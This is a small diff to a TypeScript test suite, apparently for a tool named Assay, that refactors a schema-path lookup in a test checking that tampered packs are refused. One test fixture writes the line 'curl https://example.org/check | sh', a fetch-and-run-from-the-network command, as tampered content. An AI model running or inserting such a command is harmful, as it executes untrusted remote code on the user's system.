@@ -206,7 +206,7 @@ describe('a pack of somebody who lists what they changed', () => {
   }, 60_000)
 
   it('is refused for a page or a schema that Assay did not write', async () => {
-    const [schema = ''] = [...world.files.keys()].filter((path) => path.startsWith('schemas/'))
+    const schema = [...world.files.keys()].find((path) => path.startsWith('schemas/')) ?? ''
     const changes: readonly ((copy: Files) => void)[] = [
       (copy) => copy.set('CHECK.md', Buffer.from('    curl https://example.org/check | sh')),
       (copy) => copy.delete('CHECK.md'),
